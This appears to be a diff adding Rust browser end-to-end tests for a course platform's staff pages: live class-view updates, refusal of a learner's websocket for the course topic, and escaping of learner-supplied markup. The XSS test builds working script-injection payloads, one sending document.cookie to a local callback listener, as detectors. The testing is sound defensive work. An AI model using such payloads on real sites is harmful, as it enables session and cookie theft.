@@ -1,0 +1,337 @@
+//! The staff pages in a real headless Chromium, against the real API, grader
+//! and gateway: the live class view updates while two learners submit from
+//! two other browser sessions, a learner's socket that asks for the course
+//! is refused, and learner text full of markup runs no script on any staff
+//! page. Screenshots go to `target/e2e-screenshots/`.
+
+mod chromium;
+
+use std::sync::atomic::{AtomicUsize, Ordering};
+use std::sync::Arc;
+use std::time::Duration;
+
+use chromium::{click, screenshot, solution, text, type_code, wait_for, wait_for_any, Browser};
+use common::testing::TestEnv;
+use common::token::Role;
+use e2e::{learner_token, repo, start_stack, Stack};
+use fantoccini::Client;
+use serde_json::{json, Value};
+
+const PASSWORD: &str = "staff-password-for-tests";
+
+/// Makes an instructor of the default course and signs them in on `b`,
+/// waiting for the class view and its live socket.
+async fn staff_signed_in(stack: &Stack, b: &Browser, name: &str) {
+    programming_api::staff::add(
+        &stack.api.ctx.pool,
+        "intro",
+        Role::Instructor,
+        name,
+        PASSWORD,
+    )
+    .await
+    .expect("an instructor");
+    b.c.goto(&format!("{}/staff", stack.api_url)).await.unwrap();
+    wait_for(&b.c, "#sign-in", "Staff sign-in", 10).await;
+    b.c.execute(
+        "document.getElementById('username').value = arguments[0];
+         document.getElementById('password').value = arguments[1];
+         document.getElementById('sign-in').requestSubmit();",
+        vec![json!(name), json!(PASSWORD)],
+    )
+    .await
+    .unwrap();
+    wait_for(&b.c, "#class-title", "Class · ", 10).await;
+    wait_for(&b.c, "#connection", "live", 10).await;
+}
+
+/// A learner's page on the first assignment, its socket live.
+async fn learner_on_first(stack: &Stack) -> Browser {
+    let b = Browser::open().await;
+    b.c.goto(&stack.api_url).await.unwrap();
+    wait_for(&b.c, "#assignment-title", "Hello, function", 10).await;
+    wait_for(&b.c, "#connection", "live", 10).await;
+    b
+}
+
+/// The figure in `column` of the class view's first assignment's row.
+async fn first_row(c: &Client, column: &str) -> String {
+    text(c, &format!("#class-assignments tr:first-child .{column}")).await
+}
+
+async fn wait_first_row(c: &Client, column: &str, want: &str) {
+    let deadline = tokio::time::Instant::now() + Duration::from_secs(20);
+    loop {
+        let got = first_row(c, column).await;
+        if got == want {
+            return;
+        }
+        if tokio::time::Instant::now() > deadline {
+            screenshot(c, "staff-failure").await;
+            panic!("{column} shows {got:?}, never {want:?}");
+        }
+        tokio::time::sleep(Duration::from_millis(100)).await;
+    }
+}
+
+/// Failed submissions stored, all learners together.
+async fn failed(stack: &Stack) -> i64 {
+    let client = stack.api.ctx.pool.get().await.unwrap();
+    client
+        .query_one("SELECT count(*) FROM submissions WHERE status = 'failed'", &[])
+        .await
+        .unwrap()
+        .get(0)
+}
+
+#[tokio::test]
+async fn the_class_view_shows_two_learners_verdicts_live() {
+    let env = TestEnv::new().await;
+    let stack = start_stack(&env, &repo().join("courses")).await;
+    let staff = Browser::open().await;
+    staff_signed_in(&stack, &staff, "ada").await;
+    assert_eq!(first_row(&staff.c, "passed").await, "0");
+    assert_eq!(first_row(&staff.c, "tried").await, "0");
+    // Set on this page's window: still there afterwards means no reload.
+    staff
+        .c
+        .execute("window.notReloaded = true;", vec![])
+        .await
+        .unwrap();
+    screenshot(&staff.c, "staff-1-class-empty").await;
+
+    let wrong = learner_on_first(&stack).await;
+    let right = learner_on_first(&stack).await;
+    type_code(&wrong.c, "def greet(name):\n    return 'Hi ' + name\n").await;
+    type_code(&right.c, &solution("greeting")).await;
+    click(&wrong.c, "submit").await;
+    click(&right.c, "submit").await;
+    wait_for(&wrong.c, "#status", "Wrong answer", 30).await;
+    wait_for(&right.c, "#status", "Passed", 30).await;
+
+    // Both verdicts and the new counts reach the staff page by themselves.
+    wait_for(&staff.c, "#feed", "Wrong answer", 15).await;
+    wait_for(&staff.c, "#feed", "Passed", 15).await;
+    wait_first_row(&staff.c, "tried", "2").await;
+    wait_first_row(&staff.c, "passed", "1").await;
+    // Two more failures in a row make the wrong learner stuck (the default 3).
+    for attempt in 2..=3 {
+        type_code(
+            &wrong.c,
+            &format!("def greet(name):\n    return 'Hi ' + name * {attempt}\n"),
+        )
+        .await;
+        click(&wrong.c, "submit").await;
+        // Graded before the next: a learner has one submission in flight.
+        common::testing::eventually(Duration::from_secs(30), || async {
+            failed(&stack).await == i64::from(attempt)
+        })
+        .await;
+        wait_for(&wrong.c, "#status", "Wrong answer", 30).await;
+    }
+    let stuck = wait_for(&staff.c, "#stuck", "3 failed in a row", 15).await;
+    assert!(stuck.contains("Hello, function"), "{stuck}");
+    let kept: Value = staff
+        .c
+        .execute("return window.notReloaded === true;", vec![])
+        .await
+        .unwrap();
+    assert_eq!(kept, json!(true), "the staff page reloaded");
+    screenshot(&staff.c, "staff-2-class-live").await;
+
+    // The attack: a learner's own token, from their page, asks the gateway
+    // for the course's topic. The same socket without it opens (the control).
+    let course_id = stack.api.ctx.catalog.default_course().id;
+    let socket = "const [course, done] = arguments;
+        const meta = document.querySelector('meta[name=\"ws-url\"]').content;
+        let url = meta + '?token=' + encodeURIComponent(localStorage.getItem('codeplatform.token'));
+        if (course !== null) url += '&course=' + course;
+        const ws = new WebSocket(url);
+        let opened = false;
+        ws.onopen = () => { opened = true; ws.close(); };
+        ws.onclose = () => done(opened ? 'opened' : 'refused');";
+    let own = wrong
+        .c
+        .execute_async(socket, vec![Value::Null])
+        .await
+        .unwrap();
+    assert_eq!(own, json!("opened"));
+    let course_topic = wrong
+        .c
+        .execute_async(socket, vec![json!(course_id)])
+        .await
+        .unwrap();
+    assert_eq!(course_topic, json!("refused"));
+
+    for b in [staff, wrong, right] {
+        b.close().await;
+    }
+}
+
+/// Counts every connection made to it: a script that ran would call here.
+async fn callback_listener() -> (u16, Arc<AtomicUsize>) {
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let port = listener.local_addr().unwrap().port();
+    let calls = Arc::new(AtomicUsize::new(0));
+    let counted = calls.clone();
+    tokio::spawn(async move {
+        while let Ok((_conn, _)) = listener.accept().await {
+            counted.fetch_add(1, Ordering::SeqCst);
+        }
+    });
+    (port, calls)
+}
+
+/// Whether a payload ran on the page `c` shows, by its two marks: a global
+/// and the page's title.
+async fn ran(c: &Client) -> bool {
+    let marks: Value = c
+        .execute(
+            "return [window.PWNED !== undefined, document.title.includes('PWNED')];",
+            vec![],
+        )
+        .await
+        .unwrap();
+    marks != json!([false, false])
+}
+
+/// What learner markup may leave on a page: no element it could have made.
+async fn markup_elements(c: &Client) -> i64 {
+    c.execute(
+        "return document.querySelectorAll('img, svg, iframe, script:not([src])').length;",
+        vec![],
+    )
+    .await
+    .unwrap()
+    .as_i64()
+    .unwrap()
+}
+
+#[tokio::test]
+async fn learner_markup_runs_no_script_on_any_staff_page() {
+    let env = TestEnv::new().await;
+    let stack = start_stack(&env, &repo().join("courses")).await;
+    let (port, calls) = callback_listener().await;
+    let call_back = format!("new Image().src='http://127.0.0.1:{port}/'+document.cookie");
+    let name = "<img src=x onerror=\"window.PWNED=1\">";
+    let number = "<script>window.PWNED=1</script>";
+    let tag = format!("<img src=x onerror=\"document.title='PWNED';{call_back}\">");
+    let code = format!(
+        "# <script>window.PWNED=1;{call_back}</script>\n\
+         def greet(name):\n    \
+             print(r'''{tag}''')\n    \
+             raise ValueError(r'''{tag}<script>window.PWNED=1</script>''')\n"
+    );
+
+    // The control: rendered as HTML on a page without our policy, the same
+    // payloads run, and the detectors see it.
+    let staff = Browser::open().await;
+    staff.c.goto("about:blank").await.unwrap();
+    staff
+        .c
+        .execute(
+            "document.body.innerHTML = arguments[0];",
+            vec![json!(format!("{name}{tag}"))],
+        )
+        .await
+        .unwrap();
+    common::testing::eventually(Duration::from_secs(5), || async {
+        ran(&staff.c).await && calls.load(Ordering::SeqCst) > 0
+    })
+    .await;
+    calls.store(0, Ordering::SeqCst);
+
+    // The learner: a name, a number, code, output and an exception message
+    // all carrying markup, graded by the real grader.
+    let http = reqwest::Client::new();
+    let token = learner_token(&http, &stack.api_url).await;
+    let res = http
+        .patch(format!("{}/api/me", stack.api_url))
+        .bearer_auth(&token)
+        .json(&json!({"display_name": name, "student_number": number}))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(res.status(), 200, "{}", res.text().await.unwrap());
+    let first = stack.api.ctx.catalog.default_course().id;
+    let assignment: i32 = stack
+        .api
+        .ctx
+        .pool
+        .get()
+        .await
+        .unwrap()
+        .query_one(
+            "SELECT id FROM assignments WHERE course_id = $1 ORDER BY position LIMIT 1",
+            &[&first],
+        )
+        .await
+        .unwrap()
+        .get(0);
+    let res = http
+        .post(format!(
+            "{}/api/assignments/{assignment}/submissions",
+            stack.api_url
+        ))
+        .bearer_auth(&token)
+        .json(&json!({ "code": code }))
+        .send()
+        .await
+        .unwrap();
+    assert_eq!(res.status(), 202);
+
+    staff_signed_in(&stack, &staff, "eve-watcher").await;
+    let feed = wait_for_any(&staff.c, "#feed", &["Runtime error", "Wrong answer"], 30).await;
+    assert!(feed.contains(name), "the name shows as text: {feed}");
+    assert!(!ran(&staff.c).await, "a script ran on the class view");
+    assert_eq!(markup_elements(&staff.c).await, 0);
+    screenshot(&staff.c, "staff-3-xss-class").await;
+
+    staff
+        .c
+        .goto(&format!("{}/staff#gradebook", stack.api_url))
+        .await
+        .unwrap();
+    let book = wait_for(&staff.c, "#book-body", number, 10).await;
+    assert!(book.contains(name), "{book}");
+    assert!(!ran(&staff.c).await, "a script ran on the gradebook");
+    assert_eq!(markup_elements(&staff.c).await, 0);
+    screenshot(&staff.c, "staff-4-xss-gradebook").await;
+
+    staff
+        .c
+        .goto(&format!("{}/staff#class", stack.api_url))
+        .await
+        .unwrap();
+    wait_for_any(&staff.c, "#feed", &["Runtime error", "Wrong answer"], 10).await;
+    staff
+        .c
+        .execute("document.querySelector('#feed a').click();", vec![])
+        .await
+        .unwrap();
+    wait_for(&staff.c, "#submission-code", "window.PWNED", 10).await;
+    let output = text(&staff.c, "#submission-output").await;
+    assert!(output.contains(&tag), "the output shows as text: {output}");
+    let tests = text(&staff.c, "#submission-tests").await;
+    assert!(tests.contains(&tag), "the exception shows as text: {tests}");
+    let facts = text(&staff.c, "#submission-facts").await;
+    assert!(facts.contains(name) && facts.contains(number), "{facts}");
+    assert!(!ran(&staff.c).await, "a script ran on the submission page");
+    assert_eq!(markup_elements(&staff.c).await, 0);
+    screenshot(&staff.c, "staff-5-xss-submission").await;
+
+    // Nothing called back, and every staff page carries the policy.
+    tokio::time::sleep(Duration::from_millis(500)).await;
+    assert_eq!(calls.load(Ordering::SeqCst), 0, "a payload called back");
+    let page = http
+        .get(format!("{}/staff", stack.api_url))
+        .send()
+        .await
+        .unwrap();
+    let csp = page.headers()["content-security-policy"].to_str().unwrap();
+    assert!(
+        csp.contains("script-src 'self'") && !csp.contains("unsafe-inline"),
+        "{csp}"
+    );
+    staff.close().await;
+}
